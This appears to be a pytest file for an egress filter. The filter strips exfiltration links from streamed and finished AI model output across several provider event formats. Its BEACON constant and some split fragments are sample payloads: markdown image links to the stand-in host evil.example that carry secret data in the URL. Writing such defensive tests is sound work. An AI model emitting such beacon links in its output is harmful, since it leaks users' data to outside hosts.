"""The egress strip where a runtime puts it in: a stream, a settled turn, the events of providers."""

import asyncio
import copy
from collections.abc import AsyncIterator, Iterable, Mapping
from typing import Any, TypeVar

import pytest

from registry.egress import (
    LINK_REMOVED,
    Turn,
    filter_anthropic_events,
    filter_openai_events,
    filter_stream,
    strip_egress,
)
from tests.support.egress import rows

T = TypeVar("T")

BEACON = "Here ![x](https://evil.example/p?d=SEKRIT) it is; see https://evil.example/S"
CLEAN = f"Here ![x] it is; see {LINK_REMOVED}"


async def iterate(items: Iterable[T]) -> AsyncIterator[T]:
    for item in items:
        yield item


def gather(items: AsyncIterator[T]) -> list[T]:
    async def take() -> list[T]:
        return [item async for item in items]

    return asyncio.run(take())


def test_a_stream_of_chunks_is_scrubbed_and_ends_with_what_waited() -> None:
    assert "".join(gather(filter_stream(iterate(BEACON)))) == CLEAN


def test_the_live_feed_and_the_settled_turn_agree_on_every_payload() -> None:
    for row in rows("payloads"):
        turn = Turn()
        live = "".join(turn.delta(chunk) for chunk in row.get("chunks", [row["text"]]))
        settled = turn.settle({"next_message_md": row["text"], "verdict": "done"})
        live += turn.tail()
        assert settled == {"next_message_md": live, "verdict": "done"}
        assert turn.tail() == ""


def test_control_fields_of_a_turn_are_left_alone() -> None:
    turn = {
        "next_message_md": BEACON,
        "tool_intents": [{"url": "https://a.test/x"}],
        "verdict": "https://a.test",
    }
    before = copy.deepcopy(turn)
    assert Turn().settle(turn) == {**before, "next_message_md": CLEAN}
    assert turn == before


def test_a_turn_names_its_field_or_says_what_is_wrong() -> None:
    assert Turn("answer").settle({"answer": None}) == {"answer": None}
    with pytest.raises(ValueError, match="has no field 'next_message_md'"):
        Turn().settle({"answer": BEACON})
    with pytest.raises(ValueError, match="holds list, not text"):
        Turn("answer").settle({"answer": [BEACON]})


def chat(delta: Mapping[str, Any], finish: str | None = None, index: int = 0) -> dict[str, Any]:
    choice = {"index": index, "delta": dict(delta), "finish_reason": finish}
    return {"id": "c1", "object": "chat.completion.chunk", "choices": [choice]}


def words(events: Iterable[Mapping[str, Any]], name: str = "content", index: int = 0) -> str:
    choices = [choice for event in events for choice in event["choices"] if choice["index"] == index]
    return "".join(choice["delta"].get(name) or "" for choice in choices)


def test_chat_chunks_are_scrubbed_and_the_last_words_come_before_the_finish() -> None:
    call = {"tool_calls": [{"index": 0, "function": {"arguments": '{"url": "https://a.test/"}'}}]}
    events = [chat({"role": "assistant", "content": ""}), *(chat({"content": letter}) for letter in BEACON)]
    events += [chat(call), chat({}, finish="stop"), {"id": "c1", "choices": [], "usage": {"total_tokens": 9}}]
    before = copy.deepcopy(events)
    seen = gather(filter_openai_events(iterate(events)))
    assert words(seen[:-1]) == CLEAN
    assert seen[-3] == chat(call)
    assert seen[-2]["choices"][0]["finish_reason"] == "stop"
    assert seen[-1] == before[-1]
    assert events == before


def test_choices_and_fields_of_a_chat_stream_are_texts_of_their_own() -> None:
    events = [
        chat({"content": "![x"}),
        chat({"content": "![y"}, index=1),
        chat({"reasoning_content": "www."}),
    ]
    events += [chat({"content": "](//evil.example/S) a"}), chat({"content": "] b"}, index=1)]
    events += [chat({"reasoning_content": "evil.example/S c"})]
    seen = gather(filter_openai_events(iterate(events)))
    assert (words(seen), words(seen, index=1)) == ("![x] a", "![y] b")
    assert words(seen, "reasoning_content") == f"{LINK_REMOVED} c"


def test_a_finished_chat_answer_is_scrubbed_whole() -> None:
    event = {"choices": [{"index": 0, "message": {"role": "assistant", "content": BEACON}}]}
    [seen] = gather(filter_openai_events(iterate([event])))
    assert seen["choices"][0]["message"] == {"role": "assistant", "content": CLEAN}


def test_a_responses_stream_is_scrubbed_in_deltas_and_in_what_repeats_them() -> None:
    place = {"item_id": "m", "output_index": 0, "content_index": 0}
    deltas = [{"type": "response.output_text.delta", **place, "delta": letter} for letter in BEACON]
    done = {"type": "response.output_text.done", **place, "text": BEACON}
    item = {"type": "message", "content": [{"type": "output_text", "text": BEACON}]}
    whole = {"type": "response.completed", "response": {"id": "https://a.test/", "output": [item]}}
    seen = gather(filter_openai_events(iterate([*deltas, done, whole])))
    assert "".join(event["delta"] for event in seen if event["type"].endswith(".delta")) == CLEAN
    assert seen[-2]["text"] == CLEAN
    assert seen[-1]["response"]["output"][0]["content"][0]["text"] == CLEAN
    assert seen[-1]["response"]["id"] == "https://a.test/"


def test_a_message_stream_is_scrubbed_and_the_last_words_come_before_the_end_of_their_block() -> None:
    def delta(block: int, kind: str, name: str, text: str) -> dict[str, Any]:
        return {"type": "content_block_delta", "index": block, "delta": {"type": kind, name: text}}

    start = {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": BEACON[:9]}}
    tool = delta(1, "input_json_delta", "partial_json", '{"url": "https://a.test/"}')
    texts = [delta(0, "text_delta", "text", letter) for letter in BEACON[9:]]
    stop = {"type": "content_block_stop", "index": 0}
    thought = delta(2, "thinking_delta", "thinking", BEACON)
    seen = gather(filter_anthropic_events(iterate([start, *texts, tool, stop, thought])))
    first = seen[0]["content_block"]["text"]
    text = first + "".join(
        event["delta"]["text"] for event in seen if event.get("delta", {}).get("type") == "text_delta"
    )
    assert text == CLEAN
    assert tool in seen
    assert seen.index(stop) == len(seen) - 3
    assert "".join(event["delta"]["thinking"] for event in seen[-2:]) == CLEAN


def test_a_finished_message_is_scrubbed_whole() -> None:
    blocks = [{"type": "text", "text": BEACON}, {"type": "tool_use", "input": {"url": "https://a.test/"}}]
    [seen] = gather(filter_anthropic_events(iterate([{"type": "message", "content": blocks}])))
    assert seen["content"] == [{"type": "text", "text": strip_egress(BEACON)}, blocks[1]]


def test_an_event_of_another_shape_passes() -> None:
    odd: list[dict[str, Any]] = [{"type": "ping"}, {"choices": None}, {"choices": [1, {"delta": None}]}, {}]
    assert gather(filter_openai_events(iterate(odd))) == odd
    assert gather(filter_anthropic_events(iterate(odd))) == odd
